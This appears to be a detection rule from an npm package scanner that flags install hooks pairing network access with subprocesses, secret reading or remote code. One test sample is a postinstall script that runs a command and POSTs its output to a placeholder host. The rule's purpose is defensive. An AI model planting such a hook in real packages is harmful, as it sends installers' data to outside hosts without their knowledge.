import type { Rule } from '../rule';

export const hookNetworkActs: Rule = {
  code: 'hook-network-acts',
  ecosystem: 'npm',
  kind: 'install-hook',
  severity: 'high',
  verdict: 'suspicious',
  tactic: 'command-and-control',
  capabilities: ['network', 'subprocess', 'environment', 'filesystem-write', 'dynamic-code', 'obfuscation'],
  languages: ['javascript', 'python', 'shell', 'gyp'],
  summary:
    'An install hook talks to the network, and starts programs, evaluates text, reads secrets, or tells who the machine is.',
  message: 'talks to the network, and acts',
  pattern: {
    where: 'hooks',
    any: [
      'subprocess',
      'package-manager',
      'downloaded-program',
      'dynamic-code',
      'obfuscation',
      'environment-secret',
      'identity-sent',
      'secret-sent',
      'remote-code',
      'persistence',
      'self-delete',
      'drop-host',
    ],
    near: ['network'],
    unless: ['platform-download'],
  },
  samples: {
    hits: [
      {
        what: 'what a program says is sent',
        format: 'tarball',
        manifest: { scripts: { postinstall: 'node a.js' } },
        files: {
          'a.js':
            'const said = require("child_process").execSync("frobnicate --version"); require("https").request("https://x.invalid", { method: "POST" }).end(said)',
        },
        verdict: 'suspicious',
        speaks: ['hook-network', 'hook-subprocess'],
      },
    ],
    ignores: [
      {
        what: 'a download that is checked and kept',
        format: 'tarball',
        manifest: { scripts: { postinstall: 'node a.js' } },
        files: {
          'a.js':
            'const https = require("https"); const crypto = require("crypto"); https.get("https://releases.invalid/x.node", (r) => { const hash = crypto.createHash("sha256"); r.on("data", (c) => hash.update(c)); r.on("end", () => { if (hash.digest("hex") !== require("./sum.json").sha256) process.exit(1); }); });',
          'sum.json': '{ "sha256": "" }',
        },
        why: 'It fetches, and does nothing else.',
        verdict: 'warning',
      },
    ],
  },
};
